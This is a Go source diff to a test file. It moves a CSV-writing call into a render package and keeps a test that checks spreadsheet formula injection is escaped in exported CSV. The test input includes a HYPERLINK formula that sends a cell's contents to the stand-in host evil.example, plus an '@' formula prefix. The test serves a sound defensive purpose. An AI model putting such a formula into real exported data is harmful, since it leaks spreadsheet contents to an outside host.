@@ -14,6 +14,7 @@ import (
 	"github.com/kexi/kexi/analysis"
 	"github.com/kexi/kexi/analysis/all"
 	"github.com/kexi/kexi/internal/refdata"
+	"github.com/kexi/kexi/render"
 )
 
 // kexiRun runs a kexi command line and returns its exit code, stdout and stderr.
@@ -211,7 +212,7 @@ func TestAnalyzeCSVEscapesFormulas(t *testing.T) {
 	r := &analysis.Result{Tables: []analysis.Table{{Key: "t", Columns: []analysis.Column{{Key: "group", Type: "text"}, {Key: "value", Type: "number"}},
 		Rows: [][]any{{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, -5.0}, {"@x", 3.0}}}}}
 	var buf bytes.Buffer
-	if err := writeCSV(&buf, analysis.Info{Name: "x"}, r, "en"); err != nil {
+	if err := render.CSV(&buf, analysis.Info{Name: "x"}, r, "en"); err != nil {
 		t.Fatal(err)
 	}
 	want := "group,value\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-5\n'@x,3\n"
